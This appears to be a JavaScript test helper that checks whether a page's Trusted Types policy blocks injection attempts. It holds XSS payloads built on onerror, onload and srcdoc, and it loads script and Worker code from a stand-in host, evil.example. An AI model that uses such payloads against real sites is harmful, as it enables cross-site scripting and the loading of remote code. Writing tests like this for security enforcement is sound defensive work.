// Attempts, in a page, that Trusted Types refuse.

/** Tries to make HTML or a script from foreign texts, and returns the attempts that were not refused. Runs in the page. */
export function successfulAttacks() {
  const svg = () => document.createElementNS("http://www.w3.org/2000/svg", "svg");
  /** @type {Record<string, () => unknown>} */
  const attacks = {
    html: () => {
      document.createElement("div").innerHTML = "<img src=x onerror=alert(1)>";
    },
    handler: () => {
      svg().innerHTML = '<path onload="alert(1)"/>';
    },
    script: () => {
      document.createElement("script").src = "https://evil.example/x.js";
    },
    worker: () => new Worker("data:text/javascript,postMessage(1)"),
    foreign: () => new Worker("https://evil.example/x.js"),
    frame: () => {
      document.createElement("iframe").srcdoc = "<script>alert(1)</script>";
    },
  };
  return Object.entries(attacks).flatMap(([name, attack]) => {
    try {
      attack();
      return [name];
    } catch (thrown) {
      return thrown instanceof TypeError ? [] : [`${name}: ${thrown}`];
    }
  });
}
